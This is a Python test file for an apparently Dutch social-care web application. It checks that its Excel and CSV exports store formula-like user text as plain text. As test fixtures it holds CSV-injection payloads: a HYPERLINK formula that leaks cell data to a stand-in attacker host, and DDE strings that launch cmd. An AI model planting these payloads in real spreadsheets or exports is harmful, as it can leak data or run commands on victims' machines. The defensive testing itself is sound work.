"""CSV injection (OWASP): text a user typed never becomes a live formula in an export."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from openwmo import rekenblad
from openwmo.accounts.models import Rol
from openwmo.financien import services as financien
from openwmo.testing import factories as f

pytestmark = pytest.mark.django_db

AANVALLEN = [
    '=HYPERLINK("https://aanvaller.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cellen(inhoud: bytes):
    ws = load_workbook(io.BytesIO(inhoud)).active
    return [c for rij in ws.iter_rows() for c in rij if c.value is not None]


@pytest.mark.parametrize("tekst", AANVALLEN)
def test_excel_export_van_financien_schrijft_formuletekst_als_tekst(client, users, tekst):
    beleid = users[Rol.BELEIDSMAKER]
    s = financien.maak_scenario(
        beleid, naam="Scenario", taakstelling_cents=100_000, taakstelling_vanaf=2027
    )
    m = financien.voeg_maatregel_toe(
        beleid, s.pk, naam=tekst, pijler="basis", vanaf_jaar=2027, bedrag_cents=5_000
    )
    client.force_login(beleid)
    antwoord = client.get(f"/financien/scenarios/{s.pk}/?export=xlsx")
    assert antwoord.status_code == 200
    cellen = _cellen(antwoord.content)
    assert not [c.coordinate for c in cellen if c.data_type == "f"]
    cel = next(c for c in cellen if c.value == m.naam)  # the service strips the text
    assert cel.data_type == "s" and cel.quotePrefix
    # amounts stay numbers
    assert any(isinstance(c.value, int | float) for c in cellen)


def test_sturing_exports_schrijven_een_wijknaam_als_tekst(client, users):
    f.WijkFactory(naam="=cmd|' /C calc'!A0")
    client.force_login(users[Rol.BELEIDSMAKER])
    xlsx = client.get("/sturing/wijken/export.xlsx")
    assert xlsx.status_code == 200
    cellen = _cellen(xlsx.content)
    assert not [c.coordinate for c in cellen if c.data_type == "f"]
    assert any(c.value == "=cmd|' /C calc'!A0" and c.quotePrefix for c in cellen)
    tekst = client.get("/sturing/wijken/export.csv").content.decode("utf-8-sig")
    waarden = [w for rij in csv.reader(io.StringIO(tekst), delimiter=";") for w in rij]
    assert "'=cmd|' /C calc'!A0" in waarden
    assert not [w for w in waarden if w.startswith(rekenblad.FORMULE_BEGIN)]


def test_hulpfuncties_laten_getallen_getallen():
    assert rekenblad.csv_bestand([["-5", -5, 1.5, None, "@x", "gewoon"]], bom=False) == (
        b"'-5;-5;1,5;;'@x;gewoon\r\n"
    )
    wb = Workbook()
    rekenblad.voeg_rij_toe(wb.active, ["a\x01b", -3, "=1"])
    cellen = _cellen(rekenblad.werkboek_bytes(wb))
    assert [c.value for c in cellen] == ["ab", -3, "=1"]
    assert [c.data_type for c in cellen] == ["s", "n", "s"]
